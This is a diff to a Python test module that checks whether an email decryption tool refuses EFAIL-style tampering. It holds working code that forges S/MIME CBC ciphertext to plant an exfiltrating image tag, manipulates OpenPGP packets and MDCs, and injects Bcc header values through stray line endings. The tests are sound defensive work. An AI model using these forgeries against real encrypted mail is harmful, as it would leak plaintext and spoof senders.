@@ -2,6 +2,8 @@
 you are fired!" (Müller et al., 2019), "Mailto: Me Your Secrets" (2020), and the older ones. None gets more than a refusal
 and an explanation."""
 
+import base64
+import itertools
 import os
 import pathlib
 import pty
@@ -11,24 +13,18 @@ import subprocess
 
 import pytest
 
-from support import cms
+from support import cms, places
+from support.attacks import (DAMAGED, NO_KEY, NOT_SEALED, OPENED, PARTLY, PAYLOAD, SECRET, decrypt, is_refused,
+                             read)
 from support.command import Command
 from support.gnupg import GnuPgHome
 from support.mime import HEADER, armored, detached, multipart, pgp_mime, smime, text
+from support.openpgp import packet, packets
 from support.waiting import wait_for
 
 ALICE = "alice@example.com"
 BOB = "bob@example.org"
-SECRET = b"Attack at dawn."
-PAYLOAD = b"Content-Type: text/plain\r\n\r\n" + SECRET + b"\r\n"
-
-OPENED, NOT_SEALED, PARTLY, DAMAGED, NO_KEY = 0, 1, 2, 65, 77
-
-
-@pytest.fixture(scope="module")
-def sealed(bob_home):
-    """PGP/MIME to Bob, as one entity."""
-    return lambda payload=PAYLOAD: pgp_mime(bob_home.encrypt(payload, BOB))
+MALLORY = "mallory@example.net"
 
 
 def cbc(smime_keys, payload):
@@ -38,28 +34,6 @@ def cbc(smime_keys, payload):
 def gcm(smime_keys, payload):
     return cms.openssl("cms", "-encrypt", "-aes-256-gcm", "-binary", "-outform", "DER", smime_keys.certificate_of(BOB),
                        input=payload)
-
-
-def decrypt(lockbox, message, *options):
-    result = lockbox.run("decrypt", *options, input=message)
-    assert "terminate" not in result.err and result.status >= 0, result
-    return result
-
-
-def read(lockbox, message, *options):
-    return lockbox.run("read", *options, input=message)
-
-
-def is_refused(lockbox, message, *words, options=(), status=DAMAGED):
-    """Nothing is written, and the reason is said."""
-    result = decrypt(lockbox, message, *options)
-    assert (result.status, result.out) == (status, b""), result
-    for word in words:
-        assert word in result.err, (word, result)
-    shown = read(lockbox, message, *options)
-    assert shown.status == status, shown
-    assert SECRET not in shown.out
-    return result
 
 
 # --- EFAIL, direct exfiltration: what is opened becomes part of an address that a mail program asks for ---
@@ -147,18 +121,76 @@ def _with_ciphertext(octets, iv, ciphertext):
     return cms.sequence(kind, cms.tlv(0xa0, cms.sequence(version, recipients, encrypted)))
 
 
+def _pieces(octets, payload):
+    """IV and ciphertext of EnvelopedData."""
+    size = (len(payload) // 16 + 1) * 16
+    iv_at = octets.rindex(b"\x04\x10", 0, len(octets) - size) + 2
+    return octets[iv_at:iv_at + 16], octets[-size:]
+
+
+@pytest.mark.parametrize("encoding", [b"7bit", b"7BIT", b"quoted-printable", b"base64", b""])
+@pytest.mark.parametrize("charset", [b"utf-8", b"iso-8859-1"])
+def test_cbc_gadget_in_html(lockbox, smime_keys, key_options, encoding, charset):
+    """The sender wrote HTML himself, so nothing but the image is missing. Where the attacker puts a gadget, 16 random octets
+    stand. He tries again until no control character is among them, which in a charset of single octets happens soon;
+    then only the encoding tells that no mail program wrote them."""
+    header = (b"Content-Type: text/html; charset=" + charset + b"\r\n" +
+              (b"Content-Transfer-Encoding: " + encoding + b"\r\n" if encoding else b""))
+    header += b"X-Filler: " + b"x" * (-(len(header) + 14) % 16) + b"\r\n\r\n"
+    assert len(header) % 16 == 0
+    content = SECRET if encoding != b"base64" else base64.b64encode(SECRET)
+    payload = header + content + b"\r\n"
+    for number in itertools.count():
+        octets = cbc(smime_keys, payload)
+        iv, ciphertext = _pieces(octets, payload)
+        wanted = b"<img src=//e?%03d" % (number % 1000) if encoding != b"base64" else b"PGltZyBzcmM9%04d" % number
+        assert len(wanted) == 16
+        gadget = bytes(a ^ b ^ c for a, b, c in zip(iv, payload[:16], wanted)) + ciphertext[:16]
+        at = len(header)
+        forged = _with_ciphertext(octets, iv, ciphertext[:at] + gadget + ciphertext[at - 16:at] + ciphertext[at:])
+        opened = smime_keys.decrypt(forged, BOB)
+        assert wanted in opened
+        garbage = opened[at:at + 16] + opened[at + 32:at + 48]
+        if charset == b"utf-8" or not any(octet < 32 and octet not in b"\t\n\r" or octet == 127 for octet in garbage):
+            break
+        assert number < 1000, "no luck with the random octets"
+    is_refused(lockbox, HEADER + smime(forged), "changes a message on its way", options=key_options)
+
+
+def test_cbc_cut_and_turned(lockbox, smime_keys, key_options):
+    """Blocks taken out, turned, repeated, and cut off at the end, where the padding says so or not."""
+    payload = PAYLOAD[:-2] + b" " + b"".join(b"%015d " % n for n in range(20)) + b"\r\n"
+    octets = cbc(smime_keys, payload)
+    iv, ciphertext = _pieces(octets, payload)
+    blocks = [ciphertext[at:at + 16] for at in range(0, len(ciphertext), 16)]
+    for changed in (blocks[:5] + blocks[8:], blocks[:5] + [blocks[6], blocks[5]] + blocks[7:], blocks[:5] + blocks[3:],
+                    blocks[:9], blocks[:-1], blocks[1:], blocks + blocks, [], [blocks[0][:8]]):
+        is_refused(lockbox, HEADER + smime(_with_ciphertext(octets, iv, b"".join(changed))), "not opened", options=key_options)
+
+
+def test_cbc_says_what_it_lacks(lockbox, smime_keys, key_options):
+    """The first block can be changed without a trace, by the IV alone: so the warning stands above every such message."""
+    payload = b"Content-Type: text/plain\r\n\r\n" + SECRET + b"\r\n"
+    octets = cbc(smime_keys, payload)
+    iv, ciphertext = _pieces(octets, payload)
+    changed = bytes(a ^ b ^ c for a, b, c in zip(iv, payload[:16], b"Content-Typo: te"))
+    for message in (octets, _with_ciphertext(octets, changed, ciphertext)):
+        result = decrypt(lockbox, HEADER + smime(message), *key_options)
+        assert result.status == OPENED and "may have been changed" in result.err, result
+        assert read(lockbox, HEADER + smime(message), "--json", *key_options).json["protection"] == "without-integrity"
+
+
 def test_cfb_gadget(lockbox, bob_home):
     """OpenPGP's CFB can be changed in the same way; the MDC at its end says so."""
-    packets = bytearray(bob_home.encrypt(PAYLOAD + b"x" * 500, BOB, armor=False))
-    for at in range(len(packets) - 300, len(packets) - 284):
-        packets[at] ^= 0x20
-    is_refused(lockbox, HEADER + pgp_mime(armored(bytes(packets))), "not opened")
+    octets = bytearray(bob_home.encrypt(PAYLOAD + b"x" * 500, BOB, armor=False))
+    for at in range(len(octets) - 300, len(octets) - 284):
+        octets[at] ^= 0x20
+    is_refused(lockbox, HEADER + pgp_mime(armored(bytes(octets))), "not opened")
 
 
 @pytest.mark.parametrize("name", ["no-mdc.bin", "sed.bin"])
 def test_without_integrity_protection(tmp_path, name):
     """The MDC stripped, and the packet of RFC 2440 that never has one, with the right session key."""
-    from support import places
     folder = places.SOURCE / "tests" / "data" / "openpgp"
     with GnuPgHome() as home:
         home.import_key((folder / "alice.secret.asc").read_bytes())
@@ -166,53 +198,27 @@ def test_without_integrity_protection(tmp_path, name):
         is_refused(command, HEADER + pgp_mime(armored((folder / name).read_bytes())), "not opened")
 
 
-def _packets(octets):
-    """Offset, tag and whole packet, old and new format with definite lengths."""
-    at = 0
-    while at < len(octets):
-        first = octets[at]
-        if first & 0x40:
-            tag, length_at = first & 0x3f, at + 1
-            one = octets[length_at]
-            if one < 192:
-                length, body = one, length_at + 1
-            elif one < 224:
-                length, body = ((one - 192) << 8) + octets[length_at + 1] + 192, length_at + 2
-            else:
-                assert one == 255
-                length, body = int.from_bytes(octets[length_at + 1:length_at + 5], "big"), length_at + 5
-        else:
-            tag, size = (first >> 2) & 0xf, 1 << (first & 3)
-            length, body = int.from_bytes(octets[at + 1:at + 1 + size], "big"), at + 1 + size
-        yield tag, octets[body:body + length], octets[at:body + length]
-        at = body + length
-
-
 def _sealed_packets(bob_home):
     octets = bob_home.encrypt(PAYLOAD, BOB, armor=False)
-    (pkesk_tag, _, pkesk), (tag, body, _) = list(_packets(octets))
+    (pkesk_tag, _, pkesk), (tag, body, _) = list(packets(octets))
     assert (pkesk_tag, tag) == (1, 18)
     return pkesk, body
 
 
-def _packet(tag, body):
-    return bytes([0xC0 | tag, 0xFF]) + len(body).to_bytes(4, "big") + body
-
-
 def test_wrong_mdc(lockbox, bob_home):
     pkesk, body = _sealed_packets(bob_home)
-    is_refused(lockbox, HEADER + pgp_mime(armored(pkesk + _packet(18, body[:-1] + bytes([body[-1] ^ 1])))), "not opened")
+    is_refused(lockbox, HEADER + pgp_mime(armored(pkesk + packet(18, body[:-1] + bytes([body[-1] ^ 1])))), "not opened")
 
 
 def test_cut_mdc(lockbox, bob_home):
     pkesk, body = _sealed_packets(bob_home)
-    is_refused(lockbox, HEADER + pgp_mime(armored(pkesk + _packet(18, body[:-22]))), "not opened")
+    is_refused(lockbox, HEADER + pgp_mime(armored(pkesk + packet(18, body[:-22]))), "not opened")
 
 
 def test_relabelled_as_unprotected(lockbox, bob_home):
     """SEIPD without its version octet is a packet 9, but for how CFB begins anew: the downgrade of EFAIL §5.2."""
     pkesk, body = _sealed_packets(bob_home)
-    is_refused(lockbox, HEADER + pgp_mime(armored(pkesk + _packet(9, body[1:]))), "without integrity protection")
+    is_refused(lockbox, HEADER + pgp_mime(armored(pkesk + packet(9, body[1:]))), "without integrity protection")
 
 
 def test_gcm_relabelled_as_cbc(lockbox, smime_keys, key_options):
@@ -461,6 +467,52 @@ def test_from_that_differs(lockbox, sealed):
     assert b"From: Alice <alice@example.com>" in fields_of(result) and b"ceo@" not in result.out
     assert "ceo@example.com" in result.err and "warning" in result.err
     assert "ceo@example.com" in read(lockbox, HEADER + sealed(inside)).text
+
+
+@pytest.mark.parametrize("field", [b"Authentication-Results: mx.example.org; dkim=pass", b"Received: from bank.example",
+                                   b"Return-Path: <ceo@example.com>", b"Received-SPF: pass", b"X-Spam-Status: No",
+                                   b"Delivered-To: eve@example.net"])
+def test_fields_that_only_servers_write(lockbox, sealed, field):
+    """The payload protects its fields, rightly; these say what a server found, and no server saw inside."""
+    inside = field + b'\r\nSubject: inside\r\nContent-Type: text/plain; hp="cipher"\r\n\r\n' + SECRET + b"\r\n"
+    result = decrypt(lockbox, HEADER + sealed(inside))
+    assert result.status == OPENED and b"Subject: inside" in fields_of(result), result
+    assert field.partition(b":")[0] not in fields_of(result)
+
+
+@pytest.mark.parametrize("body", [b"a\rBcc: eve@example.net", b"a\nBcc: eve@example.net", b"a\r\r\nBcc: eve@example.net",
+                                  b"a\0\r\n Bcc: eve@example.net", b"a\r\n\tBcc: eve@example.net", b"a\x0bBcc: eve@example.net"])
+def test_line_ends_in_a_protected_field(lockbox, sealed, body):
+    """What stands in a field inside must not become a field of its own outside, nor end the header section."""
+    inside = b"Subject: " + body + b'\r\nContent-Type: text/plain; hp="cipher"\r\n\r\n' + SECRET + b"\r\n"
+    result = decrypt(lockbox, HEADER + sealed(inside))
+    lines = re.split(rb"\r\n|\n|\r", result.out)
+    assert not any(line.lower().startswith(b"bcc:") for line in lines) or b"\nBcc" in body.replace(b"\r", b"\n"), result
+    if result.status == OPENED:
+        assert b"\r" not in fields_of(result).replace(b"\r\n", b""), result
+
+
+def test_fields_protected_twice(lockbox, sealed):
+    """Two From fields inside, or two Subjects: no reader may choose for itself."""
+    inside = (b"From: Alice <alice@example.com>\r\nFrom: ceo@example.com\r\nSubject: one\r\nSubject: two\r\n"
+              b'Content-Type: text/plain; hp="cipher"\r\n\r\n' + SECRET + b"\r\n")
+    result = decrypt(lockbox, HEADER + sealed(inside))
+    assert b"ceo@example.com" not in fields_of(result), result
+    assert fields_of(result).lower().count(b"\nfrom:") + fields_of(result).lower().startswith(b"from:") == 1
+
+
+def test_hp_in_the_second_of_two_types(lockbox, sealed):
+    inside = b'Subject: pay\r\nContent-Type: text/plain\r\nContent-Type: text/plain; hp="cipher"\r\n\r\n' + SECRET + b"\r\n"
+    result = decrypt(lockbox, HEADER + sealed(inside))
+    assert b"Subject: pay" not in result.out, result
+
+
+def test_hp_in_a_sealed_part_of_a_signed_message(lockbox, sealed):
+    """Protected fields in an attached message are that message's."""
+    inner = b'From: ceo@example.com\r\nSubject: pay\r\nContent-Type: text/plain; hp="cipher"\r\n\r\n' + SECRET
+    inside = b"Content-Type: message/rfc822\r\n\r\n" + inner + b"\r\n"
+    result = decrypt(lockbox, HEADER + sealed(inside))
+    assert b"Subject: outside" in fields_of(result) and b"ceo@" not in fields_of(result), result
 
 
 # --- Too much of everything ---
